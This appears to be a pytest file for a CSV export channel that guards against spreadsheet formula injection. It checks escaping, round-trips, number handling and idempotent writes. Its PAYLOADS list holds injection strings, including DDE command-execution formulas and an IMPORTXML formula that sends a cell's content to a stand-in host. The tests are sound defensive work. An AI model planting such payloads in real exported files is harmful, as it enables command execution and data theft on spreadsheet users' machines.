# ruff: noqa: RUF001 (full-width signs are what is tested)

from __future__ import annotations

import csv
import math
from datetime import UTC, datetime
from typing import TYPE_CHECKING

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nextbest.channels import MESSAGE
from nextbest.channels.csv import Csv, guard_text, guarded, read_csv, unguarded, write_table
from nextbest.errors import ChannelError, UsageError
from nextbest.testing import check_channel

if TYPE_CHECKING:
    from pathlib import Path

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @x", "\u00a0=1", "\u3000+1",
    "\u200b=1", "\ufeff=1", "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1", "−1+1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x","y")', '=IMPORTXML(CONCAT("http://x/",A1),"//a")', "+49 170 1234567",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '="a"&"b"', "\t\t=1", "\x00=1", "\x0b=1", "=1;2",
    '=A1,"x"\n=B2', "-", "+", "=", "@", "'=1", "''=1", "' =1",
]  # fmt: skip
HARMLESS = [
    "",
    "Ann",
    "a=1",
    "a-b",
    "1+1",
    "me@example.com",
    "'quoted'",
    "it's",
    "007",
    "ä",
    "a,b",
    'a "b"',
    "a\nb",
    "#N/A",
]


def is_run(cell: str) -> bool:
    """Tell whether a spreadsheet might run a cell: what is left after spaces starts with a sign of a formula."""
    rest = cell.lstrip(" \t\r\n\x00\x0b\x0c\u00a0\u200b\u3000\ufeff")
    return rest[:1] in set("=+-@＝＋－＠−") or cell[:1] in {"\t", "\r"}


def cells(path: Path) -> list[list[str]]:
    """Give the rows of a file as Python's own reader sees them, without the header."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))[1:]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_run_and_all_come_back(payload: str, tmp_path: Path) -> None:
    """A dangerous text is written with an apostrophe in front, as text and as a header, and read back as it was."""
    path = tmp_path / "out.csv"
    write_table(path, pa.table({"note": [payload], payload: ["x"]}))
    (cell, _), *_ = cells(path)
    assert not is_run(cell)
    with path.open(encoding="utf-8", newline="") as file:
        assert not any(is_run(name) for name in next(csv.reader(file)))
    back = read_csv(path)
    assert back["note"].to_pylist() == [payload]
    assert back.column_names == ["note", payload]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_texts_are_left_alone(text: str) -> None:
    """A text that no spreadsheet runs is written as it is."""
    assert guard_text(text) == text


@given(st.text(max_size=12))
@settings(max_examples=500, deadline=None)
def test_guarding_can_be_undone(text: str) -> None:
    """For any text, guarding leaves nothing that runs, and unguarding gives the text back."""
    safe = guard_text(text)
    assert not is_run(safe)
    assert unguarded(pa.array([safe]))[0].as_py() == text
    assert unguarded(guarded(pa.array([safe])))[0].as_py() == safe


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    """Negative numbers, fractions and flags are written as numbers and read back to the last bit; NaN is empty."""
    values = [-1.5, 0.1 + 0.2, 1e-300, -12345678901234.5, math.nan, None]
    table = pa.table({"x": pa.array(values), "n": [-1, 2, 3, 4, 5, None], "yes": [True, False, None, True, True, True]})
    write_table(tmp_path / "n.csv", table)
    got = [[float(c) if c else None for c in row[:2]] for row in cells(tmp_path / "n.csv")]
    assert [r[0] for r in got] == [-1.5, 0.1 + 0.2, 1e-300, -12345678901234.5, None, None]
    assert [r[1] for r in got] == [-1, 2, 3, 4, 5, None]


def test_moments_lists_and_categories_are_texts(tmp_path: Path) -> None:
    """Moments are ISO 8601 in UTC, lists are JSON, a category is its word, guarded too."""
    table = pa.table(
        {
            "ts": pa.array([datetime(2026, 3, 1, 12, tzinfo=UTC)], pa.timestamp("us", tz="UTC")),
            "tags": [["a", "=b"]],
            "kind": pa.array(["=evil"]).dictionary_encode(),
        }
    )
    write_table(tmp_path / "t.csv", table)
    assert cells(tmp_path / "t.csv") == [["2026-03-01T12:00:00.000000Z", '["a","=b"]', "'=evil"]]


def test_a_column_without_any_value_is_written_empty(tmp_path: Path) -> None:
    """A column in which every value is missing, and which so has no type, becomes empty cells."""
    write_table(tmp_path / "t.csv", pa.table({"estimate": pa.nulls(2), "n": [1, 2]}))
    assert cells(tmp_path / "t.csv") == [["", "1"], ["", "2"]]


def test_the_ending_decides(tmp_path: Path) -> None:
    """Parquet keeps texts as they are, because nothing runs them; another ending is refused; the path is given back."""
    table = pa.table({"a": ["=1"], "b": [1.5]})
    assert write_table(tmp_path / "t.parquet", table) == tmp_path / "t.parquet"
    assert pq.read_table(tmp_path / "t.parquet").equals(table)
    with pytest.raises(UsageError, match=r"Use one of: \.csv, \.parquet"):
        write_table(tmp_path / "t.doc", table)
    with pytest.raises(ChannelError, match="cannot be written"):
        write_table(tmp_path / "no" / "t.csv", table)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.parquet"]


def messages(*ids: str) -> pa.Table:
    """Give messages with these ids and a name that would run."""
    row = {"play": "p", "subject_id": "=1+1", "action_id": "mail", "channel": "email", "expected_value": -1.5}
    return pa.Table.from_pylist([{**row, "decision_id": i} for i in ids], schema=MESSAGE)


def test_the_channel_keeps_its_contract(tmp_path: Path) -> None:
    """The CSV channel passes the public contract suite, its cells included."""
    channel = Csv(path=str(tmp_path / "m.csv"))
    check_channel(channel, written=tmp_path / "m.csv")
    check_channel(channel, location=str(tmp_path / "m.csv"), messages=messages("a", "b"))


def test_delivering_twice_writes_once(tmp_path: Path) -> None:
    """A message that the file already holds is sent, and not written again; new ones are added below."""
    channel = Csv(path=str(tmp_path / "m.csv"))
    channel.deliver(messages("a", "b"))
    receipt = channel.deliver(messages("b", "c"))
    assert receipt["status"].to_pylist() == ["sent", "sent"]
    back = read_csv(tmp_path / "m.csv")
    assert back["decision_id"].to_pylist() == ["a", "b", "c"]
    assert back["subject_id"].to_pylist() == ["=1+1"] * 3
    assert [row[9] for row in cells(tmp_path / "m.csv")] == ["-1.5"] * 3


def test_a_file_of_something_else_is_not_overwritten(tmp_path: Path) -> None:
    """A file that holds no messages is refused and left as it is."""
    path = tmp_path / "customers.csv"
    path.write_text("decision_id,b\n1,2\n")
    with pytest.raises(ChannelError, match="something other than messages"):
        Csv(path=str(path)).deliver(messages("a"))
    assert path.read_text() == "decision_id,b\n1,2\n"
    with pytest.raises(ChannelError, match="cannot be read as CSV"):
        list(Csv().read(str(tmp_path / "nowhere.csv")))
